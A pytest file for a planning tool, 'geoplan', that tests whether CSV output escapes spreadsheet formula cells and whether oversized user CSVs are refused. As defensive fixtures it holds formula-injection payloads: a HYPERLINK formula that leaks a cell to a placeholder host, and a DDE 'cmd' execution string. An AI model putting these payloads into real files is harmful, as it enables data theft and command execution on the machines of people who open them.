"""Files people open and files people give: CSVs that are safe in a spreadsheet, and a size limit on user CSVs."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from geoplan import settings
from geoplan.cli import main
from geoplan.errors import InputError
from geoplan.fileio import MAX_CSV_LIMIT_BYTES, MIN_CSV_LIMIT_BYTES, read_csv, spreadsheet_safe, write_csv
from geoplan.points import read_points_csv
from geoplan.reach.records import read_records
from geoplan.studyarea import load_study_area
from geoplan.venues import load_sessions, load_venues

REPO = Path(__file__).resolve().parent.parent
BEXLEY = REPO / "layers" / "bexley.yaml"
SHIPPED_VENUES = REPO / "layers" / "bexley" / "venues.csv"
SHIPPED_SESSIONS = REPO / "layers" / "bexley" / "sessions.csv"
#: The venue the top Bexley gaps are nearest to, renamed below to what a spreadsheet would run.
WEST_STREET = "cc-west-street"
FORMULA_ID = "@west-street"
FORMULA_NAME = '=HYPERLINK("https://example.invalid/?leak="&A1,"West Street")'
#: A limit below the shipped venue and session files (20 kB, 14 kB), above the smallest allowed.
SMALL_LIMIT = 5_000


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def _write_rows(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def _gaps(area: Path, out: Path, capsys: pytest.CaptureFixture[str]) -> list[dict[str, str]]:
    """Run ``geoplan gaps`` and read the gap table it writes beside the GeoPackage back as text."""
    with pytest.raises(SystemExit) as exit_info:
        main(["gaps", "--area", str(area), "--out", str(out)])
    assert exit_info.value.code in (0, None), capsys.readouterr().err
    with out.with_suffix(".csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


# --------------------------------------------------------------------------- spreadsheet safety
def test_formula_cells_are_prefixed_and_numbers_stay_numbers(tmp_path: Path) -> None:
    names = [
        "=1+1",
        "+44 20 7946 0000",
        "-2+3",
        "@SUM(A1)",
        "\tTab first",
        "=cmd|' /C calc'!A0",
        "Plain",
        "-3.5",
        "+7",
        "",
    ]
    frame = pd.DataFrame(
        {
            "name": names,
            "minutes": [-1.5, 0.0, 2.25, -40.0, 1.0, 2.0, 3.0, 4.0, 5.0, -6.0],
            "published": ["X", -2, 3.5, "-", "=A1", None, 7, "-1e3", "ok", -0.25],
        },
        index=pd.Index([f"=id{k}" if k % 2 else f"id{k}" for k in range(len(names))], name="id"),
    )
    path = write_csv(tmp_path / "table.csv", frame)

    rows = _rows(path)
    assert rows[0] == ["id", "name", "minutes", "published"]
    assert [row[0] for row in rows[1:]] == [f"'=id{k}" if k % 2 else f"id{k}" for k in range(len(names))]
    assert [row[1] for row in rows[1:]] == [
        "'=1+1",
        "'+44 20 7946 0000",
        "'-2+3",
        "'@SUM(A1)",
        "'\tTab first",
        "'=cmd|' /C calc'!A0",
        "Plain",
        "-3.5",
        "+7",
        "",
    ]
    assert [row[3] for row in rows[1:]] == ["X", "-2", "3.5", "'-", "'=A1", "", "7", "-1e3", "ok", "-0.25"]
    # Numeric columns are written exactly as pandas writes them, negatives included.
    assert [row[2] for row in rows[1:]] == [line.split(",")[2] for line in frame.to_csv().splitlines()[1:]]
    assert pd.read_csv(path)["minutes"].tolist() == frame["minutes"].tolist()
    # pandas does not quote a carriage return (it ends lines with "\n"), so that case is checked on the frame.
    assert spreadsheet_safe(pd.DataFrame({"name": ["\rReturn first"]}))["name"].tolist() == ["'\rReturn first"]
    # The frame given is left as it was.
    assert frame["name"].tolist() == names and frame.index[1] == "=id1"


def test_a_table_with_no_formula_cells_is_written_as_pandas_writes_it(tmp_path: Path) -> None:
    frame = pd.DataFrame({"venue": ["Danson Children's Centre", "Library, Erith"], "minutes": [-0.5, 12.125]})
    path = write_csv(tmp_path / "plain.csv", frame, index=False, float_format="%.4f")
    assert path.read_text(encoding="utf-8") == frame.to_csv(index=False, float_format="%.4f")
    assert spreadsheet_safe(frame).equals(frame)


def test_gap_table_of_a_venue_file_with_formula_names_reads_back_as_text(
    mirror: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(settings, "data_dir", mirror)
    venues = _rows(SHIPPED_VENUES)
    [west] = [row for row in venues if row[0] == WEST_STREET]
    west[0], west[1] = FORMULA_ID, FORMULA_NAME
    sessions = [[FORMULA_ID if cell == WEST_STREET else cell for cell in row] for row in _rows(SHIPPED_SESSIONS)]
    catalogue = BEXLEY.read_text(encoding="utf-8")
    catalogue = catalogue.replace("file: bexley/venues.csv", f"file: {_write_rows(tmp_path / 'venues.csv', venues)}")
    catalogue = catalogue.replace(
        "file: bexley/sessions.csv", f"file: {_write_rows(tmp_path / 'sessions.csv', sessions)}"
    )
    edited_area = tmp_path / "area.yaml"
    edited_area.write_text(catalogue, encoding="utf-8")

    shipped = _gaps(BEXLEY, tmp_path / "shipped" / "gaps.gpkg", capsys)
    edited = _gaps(edited_area, tmp_path / "edited" / "gaps.gpkg", capsys)

    assert len(edited) == len(shipped) > 0
    renamed = [k for k, row in enumerate(shipped) if row["nearest_id"] == WEST_STREET]
    assert renamed, "West Street is the nearest venue of the top Bexley gaps"
    for k, (before, after) in enumerate(zip(shipped, edited, strict=True)):
        if k in renamed:
            assert after["nearest_id"] == "'" + FORMULA_ID
            assert after["nearest_name"] == "'" + FORMULA_NAME
            assert after["reason"] == before["reason"].replace("West Street Children's Centre", FORMULA_NAME)
        changed = {"nearest_id", "nearest_name", "reason"} if k in renamed else set()
        assert {key: value for key, value in after.items() if key not in changed} == {
            key: value for key, value in before.items() if key not in changed
        }
    assert pd.read_csv(tmp_path / "edited" / "gaps.csv")["nearest_minutes"].dtype == float


# --------------------------------------------------------------------------- size limit on user CSVs
@pytest.mark.parametrize("reader", ["venues", "sessions", "points", "records"])
def test_user_csv_over_the_limit_is_refused_naming_file_and_limit(
    bexley, monkeypatch: pytest.MonkeyPatch, reader: str
) -> None:
    monkeypatch.setattr(settings, "max_user_csv_bytes", SMALL_LIMIT)
    path = SHIPPED_SESSIONS if reader == "sessions" else SHIPPED_VENUES
    read = {
        "venues": lambda: load_venues(path, bexley.postcodes),
        "sessions": lambda: load_sessions(path, bexley.venues["venue_id"]),
        "points": lambda: read_points_csv(path),
        "records": lambda: read_records(path),
    }[reader]
    size = path.stat().st_size
    expected = f"{path}: file is larger than 5,000 bytes ({size:,}); split it, or raise settings.max_user_csv_bytes"
    with pytest.raises(InputError, match=f"^{re.escape(expected)}$"):
        read()
    monkeypatch.setattr(settings, "max_user_csv_bytes", size)
    assert len(read_csv(path)) > 0  # a file of exactly the limit is read


def test_the_limit_is_one_line_from_the_command_line(
    mirror: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(settings, "data_dir", mirror)
    monkeypatch.setattr(settings, "max_user_csv_bytes", SMALL_LIMIT)
    out = tmp_path / "gaps.gpkg"
    with pytest.raises(SystemExit) as exit_info:
        main(["gaps", "--out", str(out)])
    [line] = capsys.readouterr().err.strip().splitlines()
    assert exit_info.value.code == 2
    assert line.startswith(f"geoplan: error: {SHIPPED_VENUES}: file is larger than 5,000 bytes"), line
    assert not out.exists()


def test_published_source_files_are_not_limited(mirror: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Just above the venue and session files: the postcode and deprivation files are larger.
    limit = max(SHIPPED_VENUES.stat().st_size, SHIPPED_SESSIONS.stat().st_size)
    monkeypatch.setattr(settings, "max_user_csv_bytes", limit)
    area = load_study_area(BEXLEY, data_dir=mirror)
    postcodes = Path(area.provenance["postcodes"].folder) / area.provenance["postcodes"].file
    assert postcodes.suffix == ".csv" and postcodes.stat().st_size > limit
    assert len(area.postcodes) > 0


@pytest.mark.parametrize("limit", [0, MIN_CSV_LIMIT_BYTES - 1, MAX_CSV_LIMIT_BYTES + 1])
def test_the_limit_has_a_range(monkeypatch: pytest.MonkeyPatch, limit: int) -> None:
    monkeypatch.setattr(settings, "max_user_csv_bytes", limit)
    with pytest.raises(ValueError, match=r"settings\.max_user_csv_bytes is .*; expected 1,000 to 2,000,000,000 bytes"):
        read_csv(SHIPPED_VENUES)
